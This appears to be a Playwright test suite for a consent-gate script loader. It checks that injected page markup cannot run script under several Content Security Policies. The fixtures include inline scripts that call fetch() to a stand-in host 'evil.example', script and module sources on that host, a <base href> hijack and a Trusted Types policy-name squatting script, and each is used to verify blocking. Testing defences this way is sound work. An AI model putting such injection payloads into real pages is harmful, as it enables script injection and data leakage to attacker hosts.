/** Somebody's markup under the page's Content Security Policy: it runs nothing by way of the gate that it could not run without. */

import {createHash} from 'node:crypto';
import {inlined} from '../support/inlined.js';
import {LOADER, pageOf} from '../support/page.js';
import {expect, recordOf, type Site, type Tab, test} from '../support/site.js';
import {external, ran, serveTags, VENDOR, vendorOf} from '../support/tags.js';

const PATH = '/page.html';
const NONCE = 'bm9uY2U';
const EVIL = 'https://evil.example';
const TRUSTED_TYPES =
  "require-trusted-types-for 'script'; trusted-types consent-gate lit-html 'allow-duplicates'";
const config = {
  controller: {name: 'Example Ltd', contact: 'mailto:privacy@example.com'},
  policy: {version: '2026-11-01'},
  vendors: [vendorOf('own')],
};

/** What a comment would run: it says so on the page, and asks its own server. */
const evil = (name: string) =>
  `(window.ran ??= []).push('evil ${name}'); fetch('${EVIL}/${name}', {mode: 'no-cors'})`;

/** What has reached that server: the browser may note what its policy has blocked as well. */
const reached = new WeakMap<Site, string[]>();

async function serveEvil(site: Site): Promise<void> {
  const urls: string[] = [];
  reached.set(site, urls);
  await site.context.route(`${EVIL}/**`, (route) => {
    const url = route.request().url();
    urls.push(url);
    return route.fulfill({
      contentType: 'text/javascript',
      headers: {'access-control-allow-origin': '*'},
      body: `(window.ran ??= []).push('evil ${new URL(url).pathname}')`,
    });
  });
}

const askedOfEvil = (site: Site): readonly string[] => reached.get(site) ?? [];

async function visit(site: Site, html: string, policy?: string): Promise<Tab> {
  await serveTags(site);
  await serveEvil(site);
  const headers: Record<string, string> = policy
    ? {'content-security-policy': policy.replaceAll('VENDOR', site.vendorOrigin)}
    : {};
  await site.serve(PATH, {html, headers});
  return site.visit(PATH);
}

test.describe('a comment’s tag of the category that is always granted, in a page with the inlined loader', () => {
  const COMMENT = `
    <script type="text/plain" data-consent="essential" data-src="${EVIL}/x.js"></script>
    <script type="text/plain" data-consent="essential">${evil('inline')}</script>`;
  const POLICIES: Readonly<Record<string, string>> = {
    'its hash and strict-dynamic': "script-src HASH 'strict-dynamic'; object-src 'none'; base-uri 'none'",
    'its hash and strict-dynamic, with Trusted Types': `script-src HASH 'strict-dynamic'; ${TRUSTED_TYPES}`,
    'its hash and the vendors’ hosts': "script-src HASH 'self' VENDOR",
  };

  for (const [name, policy] of Object.entries(POLICIES)) {
    test(`does not run under ${name}`, async ({site}) => {
      const {hashes, page} = inlined(
        JSON.parse(JSON.stringify(config).replaceAll(VENDOR, site.vendorOrigin)),
      );
      const tab = await visit(site, page({body: COMMENT}), policy.replace('HASH', hashes[0] ?? ''));
      await tab.state();
      await site.wire.quiet();
      expect(askedOfEvil(site), 'on the wire').toEqual([]);
      expect(site.wire.toVendors().filter((url) => !url.startsWith(EVIL))).toEqual([]);
      expect(await ran(tab)).toEqual([]);
      // The gate is at work: what the site has configured comes.
      await site.remember(recordOf());
      await tab.reload();
      await expect.poll(site.wire.tags).toContain('/tags/own.js');
      await site.wire.quiet();
      expect(askedOfEvil(site), 'on the wire, with a grant').toEqual([]);
      expect(await ran(tab)).toEqual(['own']);
    });
  }

  test('runs where the configuration lists it, and only then', async ({site}) => {
    const listed = {
      ...config,
      markup: {
        src: [`${EVIL}/x.js`],
        sha256: [createHash('sha256').update(evil('inline')).digest('base64')],
      },
    };
    const more = `<script type="text/plain" data-consent="essential">${evil('other')}</script>`;
    const {hashes, page} = inlined(JSON.parse(JSON.stringify(listed).replaceAll(VENDOR, site.vendorOrigin)));
    const policy = `script-src ${hashes[0]} 'strict-dynamic'; object-src 'none'; base-uri 'none'`;
    await visit(site, page({body: COMMENT + more}), policy);
    await expect.poll(() => [...askedOfEvil(site)].sort()).toEqual([`${EVIL}/inline`, `${EVIL}/x.js`]);
    await site.wire.quiet();
    expect(askedOfEvil(site), 'on the wire').toHaveLength(2);
    expect(site.warnings).toContainEqual(expect.stringContaining('markup.sha256'));
  });

  test('does not run by a path that a comment’s <base> leads elsewhere', async ({site}) => {
    const written = JSON.stringify({...config, markup: {src: ['/x.js']}});
    const {hashes, page} = inlined(JSON.parse(written.replaceAll(VENDOR, site.vendorOrigin)));
    const body = `<base href="${EVIL}/"><script type="text/plain" data-consent="essential" data-src="/x.js"></script>`;
    const tab = await visit(site, page({body}), `script-src ${hashes[0]} 'strict-dynamic'`);
    await tab.state();
    await site.wire.quiet();
    expect(askedOfEvil(site), 'on the wire').toEqual([]);
  });
});

test.describe('a comment’s <base>', () => {
  const COMMENT = `<base href="${EVIL}/">`;
  const LOADERS = {
    'ahead of it': '<script nonce="NONCE" src="/dist/cdn/consent-gate.js"></script>',
    async: '<script nonce="NONCE" src="/dist/cdn/consent-gate.js" async></script>',
  };
  const POLICIES = {
    'a nonce and strict-dynamic, without base-uri': `script-src 'nonce-${NONCE}' 'strict-dynamic'`,
    'a nonce alone, without base-uri': `script-src 'nonce-${NONCE}'`,
    'the printed policy': `script-src 'nonce-${NONCE}' 'strict-dynamic'; base-uri 'none'; object-src 'none'`,
  };
  const relative = {
    ...config,
    vendors: [...config.vendors, {id: 'near', category: 'analytics', src: '/near.js'}],
  };

  for (const [where, loader] of Object.entries(LOADERS)) {
    for (const [name, policy] of Object.entries(POLICIES)) {
      // What stands ahead of a loader leads it away like any other script: hence the printed policy.
      if (where === 'async' && !policy.includes('base-uri')) continue;
      const page = () =>
        pageOf({
          config: relative,
          nonce: NONCE,
          loader: loader.replace('NONCE', NONCE),
          body: `${COMMENT}<button data-consent-open="preferences">Settings</button>`,
        });

      test(`does not lead our files away where nobody has chosen: loader ${where}, ${name}`, async ({
        site,
      }) => {
        const tab = await visit(site, page(), policy);
        await site.wire.quiet();
        expect(askedOfEvil(site), 'on the wire').toEqual([]);
        await tab.expectBanner();
      });

      test(`does not lead the settings and vendors away: loader ${where}, ${name}`, async ({site}) => {
        const tab = await visit(site, page(), policy);
        await expect
          .poll(() =>
            tab.page.evaluate(() => typeof (window as {consentGate?: {open?: unknown}}).consentGate?.open),
          )
          .toBe('function');
        await tab.page.locator('[data-consent-open]').click();
        await site.wire.quiet();
        await tab.page.evaluate(() =>
          (window as unknown as {consentGate: {acceptAll(): void}}).consentGate.acceptAll(),
        );
        await site.wire.quiet();
        expect(askedOfEvil(site), 'on the wire').toEqual([]);
        expect(site.wire.toSite()).toContain('/near.js');
      });
    }
  }
});

test.describe('a comment’s data block with a configuration', () => {
  const COMMENT = `<script type="application/json" data-consent-config>${JSON.stringify({
    ...config,
    categories: [{id: 'analytics', required: true}],
  })}</script>`;
  const loaderOf = (how: string) =>
    `<script src="/dist/cdn/consent-gate.js" data-config="/consent.json" ${how}></script>`;

  for (const how of ['async', 'defer', '']) {
    test(`does not take the place of the site’s own file: loader ${how || 'that blocks'}`, async ({site}) => {
      await site.context.route('**/consent.json', (route) =>
        route.fulfill({
          contentType: 'application/json',
          body: JSON.stringify({...config, vendors: [vendorOf('ours')]}).replaceAll(
            VENDOR,
            site.vendorOrigin,
          ),
        }),
      );
      const page = pageOf({loader: loaderOf(how), body: COMMENT});
      const tab = await visit(site, page, "script-src 'self' VENDOR");
      await tab.expectBanner();
      await site.wire.quiet();
      expect(site.wire.toVendors(), 'on the wire').toEqual([]);
      await tab.acceptAll();
      await site.expectTags(['/tags/ours.js']);
    });
  }

  test('counts where it is the only one there is', async ({site}) => {
    await visit(site, pageOf({body: COMMENT}), "script-src 'self' VENDOR");
    await site.expectTags(['/tags/own.js']);
  });
});

test.describe('under the printed policy', () => {
  const PRINTED = `script-src 'nonce-${NONCE}' 'strict-dynamic'; style-src 'self'; ${TRUSTED_TYPES}; object-src 'none'; base-uri 'none'`;
  const mark = (nonce: string) => `type="text/plain" data-consent="essential"${nonce}`;
  const FORMS: Readonly<Record<string, (nonce: string) => string>> = {
    'an address': (nonce) => `<script ${mark(nonce)} data-src="${EVIL}/1.js"></script>`,
    'an address in src': (nonce) => `<script ${mark(nonce)} src="${EVIL}/2.js"></script>`,
    'a text': (nonce) => `<script ${mark(nonce)}>${evil('text')}</script>`,
    'a module': (nonce) => `<script ${mark(nonce)} data-type="module" data-src="${EVIL}/3.js"></script>`,
    'a module’s text': (nonce) => `<script ${mark(nonce)} data-type="module">import '${EVIL}/4.js'</script>`,
    'a template with an address': (nonce) =>
      `<template data-consent="essential"><script${nonce} data-src="${EVIL}/5.js"></script></template>`,
    'a template with a text': (nonce) =>
      `<template data-consent="essential"><script${nonce}>${evil('templated')}</script></template>`,
    'a template in a template': (nonce) =>
      `<template data-consent="essential"><template data-consent="essential"><script${nonce} data-src="${EVIL}/6.js"></script></template></template>`,
    'a tag of a vendor': (nonce) =>
      `<script ${mark(nonce)} data-vendor="own" data-src="${EVIL}/7.js"></script>`,
  };

  for (const [form, scriptOf] of Object.entries(FORMS)) {
    for (const how of ['', 'async', 'defer']) {
      test(`a comment’s script does not run: ${form}, loader ${how || 'that blocks'}`, async ({site}) => {
        await site.remember(recordOf());
        const loader = LOADER.replace('async', how).replace('<script', `<script nonce="${NONCE}"`);
        const pageWith = (body: string) => pageOf({config, nonce: NONCE, loader, body});
        await site.serve('/control.html', {
          html: pageWith(scriptOf(` nonce="${NONCE}"`)),
          headers: {'content-security-policy': PRINTED},
        });
        const tab = await visit(site, pageWith(scriptOf('') + scriptOf(' nonce="b3RoZXI"')), PRINTED);
        await site.expectTags(['/tags/own.js']);
        expect(await ran(tab)).toEqual(['own']);
        // The site's own, with the nonce, runs.
        await tab.goTo('/control.html');
        await expect.poll(async () => (await ran(tab)).join()).toMatch(/evil/);
      });
    }
  }

  test('a comment’s script of SVG does not run, though browsers fetch it', async ({site}) => {
    await site.remember(recordOf());
    const body = `<svg><script type="text/plain" data-consent="essential" href="${EVIL}/8.js"></script></svg>`;
    const loader = LOADER.replace('<script', `<script nonce="${NONCE}"`);
    const tab = await visit(site, pageOf({config, nonce: NONCE, loader, body}), PRINTED);
    await expect.poll(site.wire.tags).toContain('/tags/own.js');
    await site.wire.quiet();
    expect(await ran(tab)).toEqual(['own']);
  });

  test('a script that takes the name of our policy first keeps scripts out, not in', async ({site}) => {
    await site.remember(recordOf());
    const take = `trustedTypes.createPolicy('consent-gate', {createScriptURL: (text) => text, createScript: (text) => text})`;
    const tab = await visit(
      site,
      pageOf({config, head: `<script>${take}</script>`, body: external('marked')}),
      "require-trusted-types-for 'script'; trusted-types consent-gate lit-html",
    );
    await site.expectTags([]);
    expect(await ran(tab)).toEqual([]);
    expect(site.warnings).toContainEqual(expect.stringContaining('own.js'));
  });
});
